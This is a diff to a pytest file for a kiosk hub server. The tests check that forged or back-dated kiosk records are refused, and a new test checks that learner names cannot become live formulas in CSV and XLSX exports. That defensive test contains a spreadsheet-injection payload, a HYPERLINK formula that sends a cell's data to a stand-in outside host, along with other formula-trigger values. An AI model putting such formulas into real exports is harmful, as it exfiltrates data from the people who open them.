@@ -1,15 +1,19 @@
-"""Records judged against what the hub knows, on the real ``kiosk-hub serve``.
+"""Attacks on the real ``kiosk-hub serve`` (SQLite, its own data folder) and its answers.
 
-A real kiosk enrolled for one commune signs what a stolen or tampered kiosk would: records
-for another commune, for a commune that does not exist, dated ahead or before the
-movement, and, once revoked, back-dated records. Each is refused with its reason on every
-channel (network push from the kiosk's outbox, ``kiosk-hub import`` of a USB bundle, the
-scan page), reported back (the kiosk's outbox, the CLI, the page) and never counted.
+Records judged against what the hub knows: a real kiosk enrolled for one commune signs
+what a stolen or tampered kiosk would (records for another commune, for a commune that
+does not exist, dated ahead or before the movement, and, once revoked, back-dated ones).
+Each is refused with its reason on every channel (network push from the kiosk's outbox,
+``kiosk-hub import`` of a USB bundle, the scan page), reported back (the kiosk's outbox,
+the CLI, the page) and never counted. Learner text never becomes a live formula in the
+exports.
 """
 
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -18,6 +22,7 @@ from datetime import date, timedelta
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 from real_kiosk import (
     HUB_MAIN,
     HubProcess,
@@ -33,8 +38,8 @@ from kiosk.clock import local_date, utcnow
 from kiosk.db.models import OutboxRecord
 from kiosk.hub.bundle import seal_bundle
 from kiosk.slips import cli as slip_cli
+from kiosk.slips.sealing import seal_citizen_id
 from kiosk.sync.client import HubClient
-from kiosk.sync.outbox import sync_state
 from kiosk.sync.push import push_once
 
 HERE, ELSEWHERE, NOWHERE = "03127", "03158", "99999"
@@ -58,9 +63,7 @@ def kiosk(hub: HubProcess, tmp_path: Path) -> Iterator[RealKiosk]:
 
 def _bundle(kiosk: RealKiosk, texts: list[str], tmp_path: Path) -> Path:
     """A USB bundle sealed to the hub's key, as the kiosk learnt it at enrolment."""
-    with kiosk.services.database.transaction() as session:
-        hub_key = sync_state(session).hub_public_key
-    assert hub_key is not None
+    hub_key = kiosk.hub_public_key()
     path = tmp_path / "stick.hsb"
     path.write_bytes(seal_bundle(texts, hub_key, str(kiosk.id), "2026-12-01T09:00Z"))
     return path
@@ -144,3 +147,28 @@ def test_a_revoked_key_cannot_back_date_on_any_channel(
         ["verify", kiosk.text(slip), "--trust", str(trust_file), "--json"], verifier
     )
     assert code == 1
+
+
+def test_a_learner_name_never_becomes_a_formula_in_the_exports(
+    hub: HubProcess, kiosk: RealKiosk
+) -> None:
+    trap = '=HYPERLINK("http://x.example/?"&E2,"Xem")'
+    sealed = seal_citizen_id("011090001234", kiosk.hub_public_key())
+    names = [trap, "+84 912", "-1+1", "@SUM(A1)"]  # a name has no tab or CR (record format)
+    kiosk.into_outbox(
+        [kiosk.record(local_date(utcnow()), name=n, sealed_citizen_id=sealed) for n in names]
+    )
+    assert push_once(kiosk.services.database, HubClient(hub.url), utcnow()).acked == len(names)
+    with contextlib.closing(web_session(hub)) as web:
+        as_csv = web.get("/export/consent.csv")
+        as_xlsx = web.get("/export/consent.xlsx")
+    assert as_csv.status_code == as_xlsx.status_code == 200
+    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    name_at = rows[0].index("name")
+    in_csv = {row[name_at] for row in rows[1:]}
+    assert {"'" + n for n in names} <= in_csv
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    cells = [row[name_at] for row in sheet.iter_rows(min_row=2)]
+    trapped = [c for c in cells if c.value in names]
+    assert len(trapped) == len(names)
+    assert all(c.data_type == "s" and c.quotePrefix for c in trapped)
